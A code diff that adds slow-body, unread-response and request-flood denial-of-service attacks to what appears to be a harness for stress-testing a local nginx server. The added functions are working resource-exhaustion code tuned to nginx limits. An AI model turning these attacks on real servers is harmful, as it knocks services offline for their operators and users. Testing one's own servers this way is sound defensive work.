@@ -16,14 +16,25 @@ export type Attack = (target: Target) => Promise<Outcomes>;
 export const REQUESTS = 500;
 export const BODIES = 154;
 export const CONNECTIONS = 8_192;
+export const READERS = 200;
+const FLOOD_CONNECTIONS = 32;
+/** Requests that a connection sends in one go; below nginx' `keepalive_requests`. */
+const FLOOD_AT_ONCE = 100;
 export const BODY_BYTES = 1_000_000;
 const BYTE_EVERY_MS = 4_000;
 /** Of half a head: more in one go would be a burst that no network carries. */
 const AT_ONCE = 128;
 const KEEP_UP_EVERY_MS = 100;
 
-/** Those of issue 11, by the resource that they take. */
-export const ATTACKS = { requests, bodies, 'half-heads': halfHeads } satisfies Record<string, Attack>;
+/** By the resource that they take. */
+export const ATTACKS = {
+  requests,
+  bodies,
+  'small-bodies': smallBodies,
+  'half-heads': halfHeads,
+  readers,
+  flood,
+} satisfies Record<string, Attack>;
 export type AttackName = keyof typeof ATTACKS;
 
 /** Requests that take four seconds each, all at one time, and again as soon as there is an answer. */
@@ -41,6 +52,31 @@ async function bodies(target: Target): Promise<Outcomes> {
   const dripping = setInterval(() => connections.write('x'), BYTE_EVERY_MS);
   await keepUp(connections, BODIES, head + 'x'.repeat(BODY_BYTES / 2), target);
   clearInterval(dripping);
+  return connections.end();
+}
+
+/** The same with bodies that nginx keeps until they are whole. */
+async function smallBodies(target: Target): Promise<Outcomes> {
+  const connections = new Connections(target);
+  const head = 'POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n';
+  const dripping = setInterval(() => connections.write('x'), BYTE_EVERY_MS);
+  await keepUp(connections, BODIES, head + 'x'.repeat(9_000), target);
+  clearInterval(dripping);
+  return connections.end();
+}
+
+/** Large answers that are not read. */
+async function readers(target: Target): Promise<Outcomes> {
+  const connections = new Connections({ ...target, reads: false });
+  await keepUp(connections, READERS, 'GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n', target);
+  return connections.end();
+}
+
+/** Requests as fast as they are answered or refused. */
+async function flood(target: Target): Promise<Outcomes> {
+  const connections = new Connections({ ...target, repeat: true });
+  const batch = 'GET /ping HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(FLOOD_AT_ONCE);
+  await keepUp(connections, FLOOD_CONNECTIONS, batch, target);
   return connections.end();
 }
 
